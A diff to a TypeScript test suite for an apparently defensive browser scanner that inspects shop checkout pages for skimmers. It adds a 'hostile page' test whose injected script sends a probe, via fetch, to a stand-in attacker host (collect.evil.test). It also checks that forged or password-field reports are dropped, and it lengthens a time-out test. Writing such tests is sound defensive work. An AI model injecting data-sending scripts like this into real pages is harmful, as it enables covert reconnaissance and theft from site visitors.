@@ -9,6 +9,7 @@ import { outsideLoopback, recordConnections } from '../../../testing/connections
 import { startTestStore, type TestStore, testStoreRequest, testStoreScanConfig } from '../../../testing/test-store.js';
 import { browserProcesses } from './browser-processes.js';
 import type { ScanResult } from './scan.types.js';
+import { checked } from './scan-page.js';
 import { ChromiumScanner, ScanFailed, ScannerUnavailable, ScanRefused } from './scanner.js';
 
 let store: TestStore;
@@ -36,6 +37,7 @@ const ANALYTICS = `http://${VENDOR_HOSTS.analytics}/analytics.js`;
 const SKIMMER = `http://${VENDOR_HOSTS.skimmer}/jquery-3.7.1.min.js`;
 const WIDGET = `http://${VENDOR_HOSTS.widget}/widget.js`;
 const PIXEL = `http://${VENDOR_HOSTS.tracker}/pixel.js`;
+const PAGE_URL = 'http://www.acme-shop.test/clean/checkout';
 
 describe('the scanner against the test store', () => {
   it('inventories a clean checkout: first-party code under SRI, the inline data layer, the analytics tag, the headers', async () => {
@@ -137,6 +139,24 @@ describe('the scanner against the test store', () => {
   });
 });
 
+describe('a hostile page', () => {
+  it("cannot see the scanner's reporting function, and what it sends the scanner without the key is dropped", async () => {
+    const probe = `fetch('http://collect.evil.test/probe?n=' + Object.getOwnPropertyNames(window).filter(function (n) { return /vigil/i.test(n); }).length);`;
+    store.switches.extraScript = `data:text/javascript,${encodeURIComponent(probe)}`;
+    try {
+      await scanner.scan({ ...testStoreRequest('no-csp'), steps: [] });
+    } finally {
+      store.switches.extraScript = undefined;
+    }
+    expect(store.collected.map((c) => c.path)).toContain('/probe?n=0');
+    const report = { t: 'read', field: 'card', stack: 'Error', key: 'k1' };
+    expect(checked(report, 'k1', PAGE_URL)).toEqual({ t: 'read', field: 'card', stack: 'Error', frameUrl: PAGE_URL });
+    expect(checked({ ...report, key: 'k2' }, 'k1', PAGE_URL)).toBeUndefined();
+    expect(checked({ ...report, key: undefined }, 'k1', PAGE_URL)).toBeUndefined();
+    expect(checked({ ...report, field: 'password' }, 'k1', PAGE_URL)).toBeUndefined();
+  });
+});
+
 describe('the demo store', () => {
   const scanDemo = (pageType: string) => {
     const page = demoStore.pages.find((p) => p.pageType === pageType);
@@ -221,14 +241,17 @@ describe('the gate and the limits', () => {
   });
 
   it('stops a page that does not finish within the time-out, and the next scan still works', async () => {
-    const quick = new ChromiumScanner(testStoreScanConfig(store, { timeoutMs: 1500 }));
+    const quick = new ChromiumScanner(testStoreScanConfig(store, { timeoutMs: 5000 }));
+    const plain = { ...testStoreRequest('no-csp'), steps: [] };
     try {
+      await expect(quick.scan(plain)).resolves.toMatchObject({ status: 200 });
       const started = Date.now();
       await expect(
         quick.scan({ url: 'http://www.acme-shop.test/stall', steps: [], firstPartyDomains: [] }),
-      ).rejects.toThrow(new ScanFailed('The page did not finish within 1500 ms.'));
-      expect(Date.now() - started).toBeLessThan(6000);
-      await expect(quick.scan(testStoreRequest('no-csp'))).resolves.toMatchObject({ status: 200 });
+      ).rejects.toThrow(new ScanFailed('The page did not finish within 5000 ms.'));
+      // The time-out plus the closing of the page's context, with room for a loaded machine.
+      expect(Date.now() - started).toBeLessThan(10_000);
+      await expect(quick.scan(plain)).resolves.toMatchObject({ status: 200 });
     } finally {
       await quick.close();
     }
